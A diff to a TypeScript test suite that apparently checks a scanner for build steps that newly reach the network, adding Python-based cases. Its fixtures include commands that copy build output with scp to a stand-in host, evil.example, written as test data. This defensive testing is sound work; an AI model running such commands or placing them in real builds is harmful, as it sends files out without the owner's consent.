@@ -10,6 +10,11 @@ function program(text: string): Record<string, string> {
   return { "scripts/build.mjs": text };
 }
 
+/** A program in Python that the build starts, in head and at base. */
+function python(text: string, before = ""): [Record<string, string>, Record<string, string>] {
+  return [{ "a.py": text }, { "package.json": manifest("python a.py"), "a.py": before }];
+}
+
 function vite(text: string): Record<string, string> {
   return { "vite.config.ts": text };
 }
@@ -65,6 +70,7 @@ describe("a program that newly reaches out, whoever starts it:", () => {
       { "scripts/b.py": "import requests\n" },
       { "package.json": manifest("python scripts/a.py"), "scripts/a.py": "import b\n", "scripts/b.py": "" },
     ],
+    ["a call of Python in single quotes", ...python("import os\nos.system('scp dist/a evil.example:/a')\n")],
     [
       "a tool's settings",
       { "eslint.config.js": FETCHES },
@@ -111,6 +117,36 @@ describe("a program that newly reaches out, whoever starts it:", () => {
     ],
   ])("calm: %s", async (_, changes, before) => {
     expect(await toldOf(changes, before)).toEqual({ verdict: "pass", told: [] });
+  });
+
+  test.each<[string, string, string]>([
+    [
+      "on several lines",
+      'subprocess.run(\n    [\n        "scp",\n        "a",\n        "b.example:",\n    ]\n)\n',
+      "",
+    ],
+    [
+      "that begins like one that was there",
+      "subprocess.run(\n  ['scp', 'a', 'evil.example:']\n)\n",
+      "subprocess.run(\n  ['scp', 'a', 'b.example:']\n)\n",
+    ],
+  ])("a call of Python %s", async (_, text, before) => {
+    const { told, verdict } = await toldOf(...python(text, before));
+    expect(told).toContain("build/step-reaches medium");
+    expect(verdict).toBe("fail");
+  });
+
+  test("calm: a call of Python that a formatter lays out", async () => {
+    const [changes, before] = python(
+      'subprocess.run(\n    ["scp", "a", "b.example:a"],\n)\n',
+      'subprocess.run(["scp", "a", "b.example:a"])\n',
+    );
+    expect((await toldOf(changes, before)).verdict).toBe("pass");
+  });
+
+  test("calm: a call of Python that stays here, before a text that names a program", async () => {
+    const [changes, before] = python("subprocess.run(['git', 'status'])\nprint('scp a b:')\n");
+    expect((await toldOf(changes, before)).verdict).toBe("pass");
   });
 
   test("calm: git under another name", async () => {
